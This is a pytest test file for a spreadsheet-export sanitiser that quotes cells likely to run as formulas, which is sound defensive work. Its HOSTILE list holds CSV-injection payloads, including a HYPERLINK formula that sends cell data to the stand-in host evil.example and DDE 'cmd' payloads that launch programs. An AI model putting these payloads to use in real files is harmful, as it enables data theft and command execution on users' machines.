"""bassins.spreadsheet: the one place where exported text cells are kept from running as formulas."""

import datetime as dt

import pytest

from bassins.spreadsheet import formula_like, safe_cell, safe_value

# OWASP "CSV Injection": cells starting with = + - @ tab or carriage return are run as formulas.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "-cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "=",
    "+",
    "-",
    "@",
]
HARMLESS = [
    "Pharmacie du Midi",
    "CPAS d'Anderlecht",
    "",
    "1+1",
    "a=b",
    " =1",
    "'=already quoted",
    "Région",
    "21004A00-",
    "2020-01-01",
    "+32 2 529 41 20",
    "+32 (0)2 529.41.20",
    "+32/2/529-41-20",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_texts_are_quoted(text):
    assert formula_like(text)
    assert safe_cell(text) == "'" + text
    assert safe_value(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_left_as_they_are(text):
    assert not formula_like(text)
    assert safe_cell(text) == text


def test_an_international_phone_number_stays_readable_but_not_one_with_letters():
    assert safe_cell("+32 2 529 41 20") == "+32 2 529 41 20"
    assert safe_cell("+32 2 529 41 20+A1") == "'+32 2 529 41 20+A1"
    assert safe_cell("+32|cmd") == "'+32|cmd"


def test_safe_cell_of_other_values_and_safe_value_leaves_them_alone():
    assert safe_cell(None) == "" and safe_cell(-3) == "'-3" and safe_cell(12.5) == "12.5"
    for value in (None, -3, -0.25, 0, 7, True, dt.date(2020, 1, 1)):
        assert safe_value(value) is value
